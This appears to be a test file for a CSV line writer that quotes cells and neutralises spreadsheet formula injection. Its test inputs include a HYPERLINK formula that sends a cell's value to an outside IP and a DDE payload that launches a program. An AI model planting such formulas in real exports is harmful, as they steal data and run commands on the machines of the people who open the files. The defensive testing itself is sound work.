import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine, unguarded } from './csv-line.ts';

/** Reads one line as RFC 4180 has it, one character after the other. */
const parse = (line: string): string[] => {
  const cells: string[] = [''];
  let quoted = false;
  for (let at = 0; at < line.length - 2; at += 1) {
    const [here, next] = [line.charAt(at), line[at + 1]];
    const last = cells.length - 1;
    if (here === '"' && quoted && next === '"') {
      cells[last] += '"';
      at += 1;
    } else if (here === '"') quoted = !quoted;
    else if (here === ',' && !quoted) cells.push('');
    else cells[last] += here;
  }
  return cells;
};

const formulas = ['=', '+', '-', '@', '\t', '\r'];

describe('a line of a CSV file', () => {
  it.each([
    [['plain', 'with space', ''], 'plain,with space,\r\n'],
    [[1, 0, -5, 2.5, true, false, undefined], '1,0,-5,2.5,true,false,\r\n'],
    [['a,b', 'say "no"', 'a;b', ' edge '], '"a,b","say ""no""","a;b"," edge "\r\n'],
    [['two\r\nlines', 'a\tb'], '"two\r\nlines","a\tb"\r\n'],
  ])('has quotes only where they are needed: %j', (cells, line) => {
    expect(csvLine(cells)).toBe(line);
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '\nx',
    ' =1+1',
    '\u{a0}=1',
    '＝1+1',
    '=HYPERLINK("http://203.0.113.1/?"&A1,"click")',
    `=cmd|' /C calc'!A0`,
  ])('leads what a spreadsheet would run by an apostrophe: %j', (text) => {
    expect(parse(csvLine([text, text]))).toEqual([`'${text}`, `'${text}`]);
  });

  it.each(['ana+news@example.com', 'a=b', '2026-11-01T09:00:00.000Z', 'https://example.com/?a=1'])(
    'leaves alone what only holds such a character: %s',
    (text) => {
      expect(csvLine([text])).toBe(`${text}\r\n`);
    },
  );

  it('reads back as what was written, whatever that was, and never as a formula', () => {
    const text = fc.oneof(
      fc.string(),
      fc.string({ unit: fc.constantFrom(...formulas, '\n', '"', ',', ';', ' ', 'a') }),
    );
    const property = fc.property(fc.array(text, { minLength: 1 }), (cells) => {
      const read = parse(csvLine(cells));
      expect(read.map((cell, n) => (cell === cells[n] ? cell : cell.slice(1)))).toEqual(cells);
      expect(read.filter((cell) => /^[=+\-@\t\r\n]/.test(cell.trimStart() || cell))).toEqual([]);
    });
    fc.assert(property, { seed: 4180, numRuns: 300 });
  });
});

it.each([...formulas.map((start) => `${start}1`), ' =1', "'t Hart", '', 'plain'])(
  'a cell that says %j says it again once it is read as it was before',
  (text) => {
    expect(parse(csvLine([text])).map(unguarded)).toEqual([text]);
  },
);
